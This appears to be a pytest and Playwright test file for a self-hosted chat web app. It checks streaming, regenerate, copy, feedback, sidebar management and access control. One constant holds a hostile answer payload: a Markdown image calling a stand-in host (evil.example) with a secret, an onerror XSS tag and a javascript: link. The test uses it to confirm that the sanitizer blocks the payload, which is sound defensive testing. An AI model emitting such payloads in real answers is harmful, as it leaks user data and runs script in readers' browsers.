"""The chat page in a browser: streaming Markdown, stop, regenerate, copy, feedback, the
conversations sidebar, other users' conversations, and an answer that tries to exfiltrate."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from playwright.sync_api import expect
from sqlalchemy import select

from inhouse.auth.directory import Directory
from inhouse.store.tables import Feedback
from tests.conftest import serve_fake, wait_for
from tests.fakes import FakeRunner
from tests.web.conftest import MEMBER, Web, add_user, photograph, serious_violations, sign_in

ANSWER = b"Hello **world**, here is `code`. "
CANARY = "The termination notice period of the Acme merger is forty-seven days."
SECOND = b"A second **answer**. "
EXFILTRATION = (
    b"![x](http://evil.example/?q=SECRET) <img src=x onerror=alert(1)> [a](javascript:alert(1))"
)


def _serve(tmp_path: Path, script: bytes) -> Iterator[Web]:
    runner = FakeRunner(script=script, end_after=len(script))
    with serve_fake(tmp_path / "home", runner) as served:
        add_user(served, *MEMBER)
        yield Web(served, runner)


@pytest.fixture
def chat(tmp_path: Path) -> Iterator[Web]:
    """A server whose model answers ANSWER once and then ends."""
    yield from _serve(tmp_path, ANSWER)


@pytest.fixture
def grounded(chat: Web, tmp_path: Path) -> Web:
    """`chat` with a collection "contracts" that the member may read (group "legal")."""
    state = chat.served.app.state.inhouse
    with state.db.write() as session:
        directory = Directory(session, state.audit, "test")
        directory.add_group("legal")
        directory.join(MEMBER[0], "legal")
    (tmp_path / "docs").mkdir()
    (tmp_path / "docs" / "merger.txt").write_text(CANARY)
    state.knowledge.create("test", "contracts", "legal")
    state.knowledge.add("test", "contracts", tmp_path / "docs")
    return chat


@pytest.fixture
def exfiltrating(tmp_path: Path) -> Iterator[Web]:
    """A server whose model answers with Markdown and HTML that try to reach another origin."""
    yield from _serve(tmp_path, EXFILTRATION)


@pytest.fixture
def clipboard_page(browser: Any) -> Iterator[Any]:
    """A page that may write to and read from the clipboard (for the Copy button)."""
    context = browser.new_context(
        viewport={"width": 1280, "height": 900}, permissions=["clipboard-read", "clipboard-write"]
    )
    yield context.new_page()
    context.close()


@pytest.fixture
def page_without_csp(browser: Any) -> Iterator[Any]:
    """A page that ignores the Content-Security-Policy: what it shows is then kept inert by
    the server's sanitizer and the page's own care alone."""
    context = browser.new_context(viewport={"width": 1280, "height": 900}, bypass_csp=True)
    yield context.new_page()
    context.close()


def _send(page: Any, text: str) -> None:
    """Type a message in the composer and send it with Enter."""
    composer = page.get_by_label("Message", exact=True)
    composer.fill(text)
    composer.press("Enter")


def _answers(page: Any) -> Any:
    return page.locator("#messages .message.assistant")


def _wait_until_answered(page: Any) -> None:
    page.locator("#chat-status", has_text="Answer complete.").wait_for()


def _script(web: Web, script: bytes, step_delay: float = 0.0, end: bool = True) -> None:
    """What the model answers next (the FakeRunner reads these on every step)."""
    web.runner.script = script
    web.runner.end_after = len(script) if end else None
    web.runner.step_delay = step_delay


def test_a_member_chats_stops_regenerates_copies_and_rates(
    grounded: Web, clipboard_page: Any
) -> None:
    chat, page = grounded, clipboard_page
    sign_in(page, chat, MEMBER, "/")
    assert "Answers stay on this server." in page.locator("#welcome").text_content()
    assert page.locator("#model-picker option").all_text_contents() == ["fake"]
    page.get_by_label("contracts").check()

    _send(page, "What is the notice period?")
    _wait_until_answered(page)
    answer = _answers(page).last
    assert answer.locator("strong").text_content() == "world"  # the server's rendered Markdown
    assert answer.locator("code").text_content() == "code"
    snippet = answer.locator(".citations blockquote")
    assert snippet.is_hidden()
    summary = answer.locator(".citations summary")
    assert summary.all_text_contents() == ["[1] merger (contracts)"]
    summary.click()  # opens the passage
    assert "forty-seven days" in snippet.text_content() and snippet.is_visible()
    assert page.locator("#welcome").is_hidden()
    expect(page.locator("#chat-title")).to_have_text("What is the notice period?")  # titled
    assert page.url.startswith(chat.url + "/c/")
    conversation_id = page.url.rsplit("/", 1)[1]
    assert page.locator("#conversation-list a").all_text_contents() != []

    _script(chat, SECOND)
    page.get_by_role("button", name="Regenerate this answer").click()
    _wait_until_answered(page)
    assert _answers(page).count() == 1
    assert _answers(page).last.locator("strong").text_content() == "answer"

    page.get_by_role("button", name="Copy this answer").click()
    page.locator(".action-status", has_text="Copied.").wait_for()
    assert page.evaluate("navigator.clipboard.readText()") == SECOND.decode()

    up = page.get_by_role("button", name="Good answer")
    up.click()
    page.locator(".action-status", has_text="Thank you").wait_for()
    assert up.get_attribute("aria-pressed") == "true"
    assert page.get_by_role("button", name="Bad answer").get_attribute("aria-pressed") == "false"
    page.get_by_role("button", name="Suggest a better answer").click()
    page.get_by_label("A better answer").fill("Hello, world.")
    page.get_by_role("button", name="Send the better answer").click()
    page.locator(".action-status", has_text="your answer was saved").wait_for()
    with chat.served.app.state.inhouse.db.read() as session:
        feedback = session.scalars(select(Feedback)).all()
        rows = [(f.rating, f.correction, f.completion_id) for f in feedback]
    stored = page.request.get(f"{chat.url}/v1/conversations/{conversation_id}").json()
    assert rows == [(1, "Hello, world.", stored["messages"][-1]["completion_id"])]

    assert serious_violations(page) == []
    photograph(page, "chat")

    _script(chat, b"partial words ", step_delay=0.05, end=False)  # streams until stopped
    _send(page, "Tell me more")
    page.get_by_role("button", name="Stop").wait_for()
    _answers(page).last.locator(".message-body", has_text="partial words").wait_for()
    page.get_by_role("button", name="Stop").click()
    page.locator("#chat-status", has_text="Stopped.").wait_for()
    assert page.get_by_role("button", name="Stop").is_hidden()
    _script(chat, ANSWER)

    def partial_stored() -> bool:
        body = page.request.get(f"{chat.url}/v1/conversations/{conversation_id}").json()
        last = body["messages"][-1]
        return bool(last["role"] == "assistant" and "partial words" in last["content"])

    wait_for(partial_stored, timeout=30)
    page.reload()
    _answers(page).nth(1).wait_for()
    assert "partial words" in _answers(page).last.text_content()
    assert page.locator(".message.user").all_text_contents() == [
        "YouWhat is the notice period?",
        "YouTell me more",
    ]


def test_the_sidebar_finds_renames_and_deletes_and_others_conversations_are_404(
    chat: Web, page: Any
) -> None:
    headers = {"Authorization": f"Bearer {chat.served.key}"}
    theirs = httpx.post(
        chat.url + "/v1/conversations",
        json={"model": "fake", "collections": [], "title": "The admin's secret plans"},
        headers=headers,
    )
    assert theirs.status_code == 201, theirs.text

    sign_in(page, chat, MEMBER, "/")
    refused = page.goto(f"{chat.url}/c/{theirs.json()['id']}")
    assert refused is not None and refused.status == 404
    assert "secret plans" not in page.content()

    page.goto(chat.url + "/")
    assert page.locator("#collection-choice").count() == 0  # no collection to ground on
    for title in ("Alpha trip", "Budget review"):
        page.evaluate(
            "t => inhouse.api('/v1/conversations', {method: 'POST',"
            " json: {model: 'fake', collections: [], title: t}})",
            title,
        )
    page.reload()
    titles = page.locator("#conversation-list a")
    titles.nth(1).wait_for()
    assert sorted(titles.all_text_contents()) == ["Alpha trip", "Budget review"]
    assert "secret plans" not in page.content()

    page.get_by_label("Search conversations").fill("alpha")
    expect(titles).to_have_count(1)
    assert titles.all_text_contents() == ["Alpha trip"]

    page.get_by_role("button", name="Rename “Alpha trip”").click()
    page.get_by_label("New title").fill("Alpha journey")
    page.get_by_label("New title").press("Enter")
    page.get_by_role("link", name="Alpha journey").wait_for()

    page.get_by_label("Search conversations").fill("")
    expect(titles).to_have_count(2)
    page.get_by_role("button", name="Delete “Budget review”").click()
    page.get_by_role("button", name="Keep").click()  # the confirmation can be declined
    assert titles.count() == 2
    page.get_by_role("button", name="Delete “Budget review”").click()
    page.get_by_role("button", name="Delete", exact=True).click()
    expect(titles).to_have_count(1)
    listed = page.evaluate("inhouse.api('/v1/conversations')")
    assert [c["title"] for c in listed["data"]] == ["Alpha journey"]

    page.set_viewport_size({"width": 375, "height": 800})
    page.reload()
    assert page.locator("#chat-sidebar").is_hidden()
    toggle = page.get_by_role("button", name="Conversations", exact=True)
    for _ in range(10):  # by keyboard: Tab to the toggle, whose focus is visible, and open it
        page.keyboard.press("Tab")
        if page.evaluate("document.activeElement.id") == "sidebar-toggle":
            break
    assert page.evaluate("getComputedStyle(document.activeElement).outlineStyle") == "solid"
    page.keyboard.press("Enter")
    assert toggle.get_attribute("aria-expanded") == "true"
    assert page.get_by_role("link", name="Alpha journey").is_visible()
    assert serious_violations(page) == []


def test_an_exfiltrating_answer_reaches_no_other_origin_and_runs_no_script(
    exfiltrating: Web, page_without_csp: Any
) -> None:
    web, page = exfiltrating, page_without_csp
    elsewhere: list[str] = []
    dialogs: list[str] = []

    def only_here(route: Any) -> None:
        if route.request.url.startswith(web.url + "/"):
            route.continue_()
        else:
            elsewhere.append(route.request.url)
            route.abort()

    page.route("**/*", only_here)

    def refuse(dialog: Any) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", refuse)
    sign_in(page, web, MEMBER, "/")
    _send(page, "Show me a picture")
    _wait_until_answered(page)
    answer = _answers(page).last.locator(".message-body")
    page.reload()  # the stored answer, rendered again from the server
    answer.wait_for()
    page.wait_for_load_state("networkidle")

    assert elsewhere == []
    assert dialogs == []
    assert answer.locator("[onerror], script, iframe, [href^='javascript']").count() == 0
    assert all(
        src is None or not src.startswith("http")
        for src in answer.locator("img").evaluate_all("els => els.map(e => e.getAttribute('src'))")
    )
    assert serious_violations(page) == []
